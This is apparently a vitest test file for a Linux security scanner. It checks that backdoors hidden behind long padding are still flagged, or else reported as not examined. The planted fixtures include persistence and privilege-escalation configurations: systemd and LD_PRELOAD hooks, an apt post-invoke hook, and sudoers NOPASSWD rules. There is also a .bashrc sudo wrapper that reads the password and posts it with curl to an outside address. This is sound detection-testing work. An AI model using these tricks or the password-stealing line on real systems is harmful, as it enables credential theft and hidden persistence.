/** What is beyond a limit is told as not looked at, so that a list that somebody fills up hides nothing: exit code 2, never "clean". */
import { describe, expect, it } from 'vitest';
import { scanRoot, shown, type Planted } from '../../test/throwaway-root.ts';
import { exitCodeOf } from '../scan/report.ts';
import { checks } from './catalogue.ts';
import { upTo } from './look.ts';

const many = (n: number, line: (i: number) => string): string => Array.from({ length: n }, (_, i) => line(i)).join('\n') + '\n';
const only = (id: string): typeof checks => checks.filter((check) => check.id === id);
const evil = '/tmp/x';

/** Filled up as far as nothing must be left out: what stands behind it is found. */
const filled: Readonly<Record<string, Planted>> = {
  'systemd': { '/etc/systemd/system/x.service': `[Service]\n${many(30_000, (i) => `X-A${i}=b`)}ExecStart=${evil}\n` },
  'systemd variables': { '/etc/systemd/system/x.service': `[Service]\nEnvironmentFile=/etc/x\nExecStart=$A\n`, '/etc/x': `${many(30_000, (i) => `B${i}=c`)}LD_PRELOAD=${evil}\n` },
  'boot': { '/etc/default/grub': `${many(4000, (i) => `GRUB_CMDLINE_LINUX_${i}="quiet"`)}GRUB_CMDLINE_LINUX="init=${evil}"\n` },
  'dbus': { '/usr/share/dbus-1/system-services/x.service': `[D-BUS Service]\n${many(30_000, () => 'Name=x')}Exec=${evil}\n` },
  'git-hooks': { '/root/.gitconfig': `[a]\n${many(30_000, (i) => `b${i} = c`)}[core]\n\tpager = ${evil}\n` },
  'init': { '/etc/init/x.conf': `${many(30_000, () => 'start on runlevel')}exec ${evil}\n` },
  'package-hooks': { '/etc/apt/apt.conf.d/99x': `${many(30_000, (i) => `A::B${i} "c";`)}DPkg::Post-Invoke {"${evil}"};\n` },
  'sudo': { '/etc/sudoers': `${many(1100, (i) => `u${i} ALL=(ALL) ALL`)}${Array.from({ length: 1100 }, (_, i) => `u${i}`).join(',')},ALL ALL=(ALL) NOPASSWD: ALL\n` },
  'cron': { '/etc/cron.d/x': `* * * * * root /opt/long\n`, '/opt/long': { text: `#!/bin/sh\n${many(30_000, () => 'true')}${evil}\n`, mode: 0o755 } },
  'login-scripts': { '/root/.bashrc': `${many(1200, () => 'true')}sudo() {\n${many(100, () => ':')}read -s p; echo $p | curl -d @- http://203.0.113.1/\n}\n` },
  'miner-files': { '/tmp/list': `${many(20_000, () => 'word')}stratum+tcp://pool.example:3333 --donate-level 1\n` },
};

/** Filled up beyond the limit: the file is named. */
const beyond: Readonly<Record<string, { planted: Planted; names: string }>> = {
  'systemd': { planted: { '/root/.config/systemd/user/x.service': `[Service]\n${'#'.repeat(1 << 20)}\nExecStart=${evil}\n` }, names: '/root/.config/systemd/user/x.service' },
  'cron': { planted: { '/var/spool/cron/crontabs/lin': `${'#'.repeat(1 << 20)}\n* * * * * ${evil}\n` }, names: '/var/spool/cron/crontabs/lin' },
  'cron script': { planted: { '/etc/cron.d/x': '* * * * * root /opt/long\n', '/opt/long': { text: `#!/bin/sh\n${'#'.repeat(1 << 20)}\n${evil}\n`, mode: 0o755 } }, names: '/opt/long' },
  'login-scripts': { planted: { '/home/lin/.bashrc': `: ${'x'.repeat(1 << 16)}; ${evil}\n` }, names: '/home/lin/.bashrc' },
  'boot': { planted: { '/etc/default/grub': many(5100, (i) => `GRUB_CMDLINE_LINUX_${i}="quiet"`) }, names: '/etc/default/grub' },
  'sudo': { planted: { '/etc/sudoers': `${Array.from({ length: 5100 }, (_, i) => `u${i}`).join(',')} ALL=(ALL) ALL\n` }, names: '/etc/sudoers' },
  'sudo includes': { planted: { '/etc/sudoers': '@include /etc/s0\n', ...Object.fromEntries(Array.from({ length: 20 }, (_, i) => [`/etc/s${i}`, i < 19 ? `@include /etc/s${i + 1}\n` : 'ALL ALL=(ALL) NOPASSWD: ALL\n'])) }, names: '/etc/s16' },
  'web-settings nginx': { planted: { '/etc/nginx/nginx.conf': 'include d0;\n', ...Object.fromEntries(Array.from({ length: 20 }, (_, i) => [`/etc/nginx/d${i}`, `include d${i + 1};\n`])), '/etc/nginx/d20': 'server { root /; autoindex on; }\n' }, names: '/etc/nginx/d16' },
  'web-settings apache': { planted: { '/etc/apache2/apache2.conf': 'Include d0\n', ...Object.fromEntries(Array.from({ length: 20 }, (_, i) => [`/etc/apache2/d${i}`, `Include d${i + 1}\n`])), '/etc/apache2/d20': 'Options +Indexes\n' }, names: '/etc/apache2/d16' },
  'web-settings blocks': { planted: { '/etc/nginx/nginx.conf': `${'location / {\n'.repeat(120)}autoindex on;\n` }, names: '/etc/nginx/nginx.conf' },
  'ssh-keys': { planted: { '/root/.ssh/authorized_keys': `${'#'.repeat(4 << 20)}\nssh-ed25519 AAAA x\n` }, names: '/root/.ssh/authorized_keys' },
  'pam': { planted: { '/etc/pam.d/a': 'auth include b\n', '/etc/pam.d/b': 'auth include a\n' }, names: '/etc/pam.d/a' },
  'docker': { planted: { '/var/lib/docker/containers/a/config.v2.json': '[]' }, names: '/var/lib/docker/containers/a/config.v2.json' },
};

describe('what is beyond a limit', () => {
  for (const [name, planted] of Object.entries(filled)) {
    it(`is far off: ${name}`, async () => {
      const report = await scanRoot(only(name.split(' ')[0]!), planted);
      expect(report.blind).toEqual([]);
      expect(report.findings.filter(({ level }) => level === 'critical' || level === 'high' || level === 'medium').length).toBeGreaterThan(0);
    });
  }

  for (const [name, { planted, names }] of Object.entries(beyond)) {
    it(`is told as not looked at: ${name}`, async () => {
      const report = await scanRoot(only(name.split(' ')[0]!), planted);
      expect(report.blind.map(({ what }) => what)).toContain(names);
      expect(exitCodeOf({ ...report, findings: [] }, 'high')).toBe(2);
      expect(report.verdict).not.toBe('clean');
    });
  }

  it('is told once for a place, however often it is met', async () => {
    const report = await scanRoot(only('web-settings'), { '/etc/nginx/nginx.conf': 'include d0;\n', ...Object.fromEntries(Array.from({ length: 17 }, (_, i) => [`/etc/nginx/d${i}`, `include d${i + 1};\nserver { include d${i + 1}; }\n`])) });
    expect(report.blind.map(({ what }) => what)).toEqual(['/etc/nginx/d16']);
  });

  it('does not crowd out what is graver: slight lines before a grave one', async () => {
    const text = `${many(200, (i) => `export PATH=.${i}:$PATH`)}sudo() { read -s p; echo $p | curl -d @- http://203.0.113.1/; }\n`;
    expect(shown(await scanRoot(only('login-scripts'), { '/root/.bashrc': text }))).toContain('critical /root/.bashrc');
    const flood = await scanRoot(only('preload'), { '/etc/ld.so.preload': `${many(300, (i) => `/usr/lib/${i}.so`)}/tmp/x.so\n`, ...Object.fromEntries(Array.from({ length: 300 }, (_, i) => [`/usr/lib/${i}.so`, { text: 'x', package: 'a' }])), '/tmp/x.so': '\x7fELF' });
    expect(shown(flood)).toContain('critical /etc/ld.so.preload');
  });

  it('of a variable is told: nobody sees what stands in it', async () => {
    const report = await scanRoot(checks.filter(({ id }) => id === 'systemd'), { '/etc/systemd/system/x.service': `[Service]\nEnvironment="LD_PRELOAD=${'/usr/lib/a.so:'.repeat(2000)}/tmp/x.so"\nExecStart=/bin/true\n` });
    expect(report.blind.map(({ what }) => what)).toContain('LD_PRELOAD');
  });

  it('is looked at when it is the hundredth library that is preloaded', async () => {
    const report = await scanRoot(checks.filter(({ id }) => id === 'systemd'), { '/etc/systemd/system/x.service': `[Service]\nEnvironment="LD_PRELOAD=${'/usr/lib/a.so '.repeat(99)}/tmp/x.so"\nExecStart=/bin/true\n`, '/usr/lib/a.so': { text: 'x', package: 'a' }, '/tmp/x.so': '\x7fELF' });
    expect(report.findings.some(({ level }) => level === 'high')).toBe(true);
  });

  it('is counted where nobody gains by it: places that only carelessness fills', async () => {
    const report = await scanRoot(only('cloud-credentials'), { '/root/.aws/credentials': many(6000, () => 'region = nowhere') });
    expect([Object.keys(report.counts), report.blind]).toEqual([['long files read only in part'], []]);
  });

  it('says how many there are', () => {
    const counted: [string, number | undefined][] = [];
    expect(upTo({ count: (what, n) => { counted.push([what, n]); } }, [1, 2, 3, 4, 5], 3, 'x')).toEqual([1, 2, 3]);
    expect(upTo({ count: (what, n) => { counted.push([what, n]); } }, [1, 2, 3], 3, 'x')).toEqual([1, 2, 3]);
    expect(counted).toEqual([['x', 2]]);
  });
});
